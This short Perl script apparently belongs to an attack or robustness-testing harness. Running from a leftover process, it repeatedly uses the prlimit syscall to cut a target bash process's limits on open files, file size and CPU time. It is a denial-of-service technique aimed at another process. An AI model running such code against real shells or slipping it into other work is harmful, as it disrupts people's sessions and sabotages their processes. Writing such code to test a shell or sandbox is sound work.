# Lowers what bash may open, write and use, again and again, from a process that a command left behind.
require './attacker.pl';
our $bash;
my $prlimit = `uname -m` =~ /^x86_64/ ? 302 : 261;
my @limits = ([7, 3], [1, 0], [7, 256], [0, 1]);
for (my $at = 0; kill(0, $bash); $at++) {
  my ($what, $most) = @{$limits[$at % @limits]};
  my $limit = pack('QQ', $most, $most);
  tried("limit $what") if syscall($prlimit, $bash, $what, $limit, 0) == 0;
  rest(0.05);
}
